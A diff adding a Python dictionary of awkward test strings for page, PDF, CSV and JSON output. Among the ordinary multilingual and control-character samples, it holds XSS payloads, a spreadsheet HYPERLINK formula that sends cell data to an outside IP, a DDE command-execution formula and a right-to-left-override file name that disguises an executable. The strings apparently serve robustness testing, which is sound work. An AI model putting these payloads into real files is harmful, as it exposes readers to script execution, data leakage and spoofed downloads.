@@ -1,0 +1,38 @@
+"""Words that break files: markup, formulas, scripts of many kinds, signs without a shape. For pages, PDF, CSV and JSON."""
+
+from __future__ import annotations
+
+AWKWARD = {
+    "markup": "<script>alert(1)</script>",
+    "image": '"><img src=x onerror=alert(1)>',
+    "template": "{{ 7919 * 7907 }} {page} {pages}",
+    "formula": '=HYPERLINK("http://203.0.113.7/?"&A1,"look")',
+    "shell": "=cmd|' /C calc'!A0",
+    "plus": "+1+1",
+    "minus": "-2+3",
+    "at": "@SUM(1+1)",
+    "tab": "\t=1+1",
+    "return": "\r=1+1",
+    "newline": "one\n=1+1",
+    "separator": "a;=1+1;b,=2+2",
+    "wide": "＝1+1",
+    "blank first": "  =1+1",
+    "quotes": 'she said "yes", twice',
+    "arabic": "محمد بن سلمان",
+    "hebrew": "שלום עולם",
+    "persian": "می‌خواهم",
+    "chinese": "王小明 张伟",
+    "japanese": "山田太郎",
+    "hindi": "नमस्ते",
+    "thai": "สวัสดี",
+    "emoji": "🙂 👩‍👩‍👧 🇪🇬",
+    "accents": "José Müller Ñandú",
+    "combining": "e" + "\u0301" * 40,
+    "backwards": "\u202egnp.exe",
+    "control": "bell \x07 escape \x1b[31m nul \x00",
+    "surrogate": "half \ud83d",
+    "pages": "costs \u2007 and ¤5",
+    "long": "x" * 4000,
+    "lines": "a\u2028b\x85c\x0bd",
+    "nothing": "",
+}
